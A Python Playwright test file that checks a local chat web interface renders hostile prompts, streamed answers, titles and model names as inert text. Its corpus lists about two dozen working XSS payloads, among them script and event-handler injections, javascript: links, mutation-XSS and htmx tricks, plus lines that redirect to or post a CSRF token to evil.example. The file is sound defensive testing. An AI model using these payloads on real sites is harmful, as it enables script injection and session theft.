"""Nothing that anybody writes runs in the page: prompts, answers, titles, model names; streamed or reloaded."""

from __future__ import annotations

import threading
from pathlib import Path

from chat_page import chat_in, running
from playwright.sync_api import BrowserContext, Dialog, expect
from scripted_ollama import ScriptedOllama, gate, thinking

RUN = "window.ran=1"
CORPUS = [
    f"<script>{RUN}</script>",
    f"<img src=x onerror={RUN}>",
    f'"><svg onload={RUN}>',
    f"'><body onload={RUN}>",
    f"[click](javascript:{RUN})",
    f"<javascript:{RUN}>",
    f"[a](data:text/html,<script>{RUN}</script>)",
    f'![a](x"onerror="{RUN})',
    f"`</code><script>{RUN}</script>`",
    f"```<img src=x onerror={RUN}>\n</code></pre><script>{RUN}</script>\n```",
    f"```html\n<script>{RUN}</script>\n```",
    f"$\\text{{<img src=x onerror={RUN}>}}$",
    f"$$\\href{{javascript:{RUN}}}{{x}}$$",
    f"| <img src=x onerror={RUN}> |\n|---|\n| <script>{RUN}</script> |",
    f"<details open ontoggle={RUN}>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'>",
    f"<math><mtext></mtext><mglyph><style><img src=x onerror={RUN}>",
    f"<hx-partial hx-target='body'><img src=x onerror={RUN}></hx-partial>",
    f"<div hx-get='/' hx-trigger='load' hx-on:htmx:load='{RUN}'>",
    f"<template><script>{RUN}</script></template>",
    f"</textarea><script>{RUN}</script>",
    f"{{{{ {RUN} }}}}",
    "</div></article></main><h1>Taken over</h1>",
    "<form action=//evil.example><input name=csrf_token>",
    "<base href=//evil.example/><link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content=0;//evil.example>",
]


def test_nothing_of_the_corpus_runs_or_leaves_its_place(
    context: BrowserContext, server: str, ollama: ScriptedOllama
) -> None:
    chat = chat_in(context, server)
    dialogs: list[Dialog] = []
    foreign: list[str] = []
    chat.page.on("dialog", lambda dialog: (dialogs.append(dialog), dialog.dismiss()))
    chat.page.on("request", lambda request: None if request.url.startswith(server) else foreign.append(request.url))
    chat.open()
    everything = "\n\n".join(CORPUS)
    opened = threading.Event()
    pieces = [everything[at : at + 5] for at in range(0, len(everything), 5)]
    half = len(pieces) // 2
    ollama.script(thinking(everything), *pieces[:half], gate(opened), *pieces[half:])
    answer = chat.ask(everything)
    expect(answer.locator('[data-part="answer"]')).to_contain_text("onerror")
    chat.page.reload()
    expect(answer.locator('[data-part="answer"]')).to_contain_text("onerror")
    opened.set()
    expect(answer).to_have_attribute("data-state", "done")
    url = chat.page.url
    for title in CORPUS:
        chat.page.get_by_role("link", name="Rename or delete").first.dispatch_event("click")
        name = chat.page.get_by_role("textbox", name="Name")
        name.fill(title)
        name.press("Enter")
        expect(name).to_have_count(0)
    chat.page.goto(url)
    expect(answer).to_have_attribute("data-state", "done")
    answer.locator(".thinking summary").click()
    for link in answer.locator("a").all():
        assert (link.get_attribute("href") or "#").startswith(("http://", "https://", "mailto:", "#"))
    assert chat.page.evaluate("window.ran") is None
    assert chat.page.locator("main h1").count() == 1
    assert chat.page.locator("iframe, base, object, embed").count() == 0
    assert not dialogs
    assert not foreign
    assert not [said for said in chat.complaints if "Content Security Policy" in said], chat.complaints


def test_a_hostile_model_name_is_only_text(context: BrowserContext, tmp_path: Path) -> None:
    name = f'"><img src=x onerror={RUN}>'
    with ScriptedOllama(models=[name]) as ollama, running(tmp_path, OLLAMA_BASE_URL=ollama.url) as url:
        chat = chat_in(context, url)
        chat.open()
        expect(chat.page.locator("option")).to_have_text([name])
        answer = chat.ask("Hi")
        expect(answer).to_have_attribute("data-state", "done")
        assert name in (answer.locator(".facts").text_content() or "")
        assert chat.page.evaluate("window.ran") is None
        assert not chat.complaints
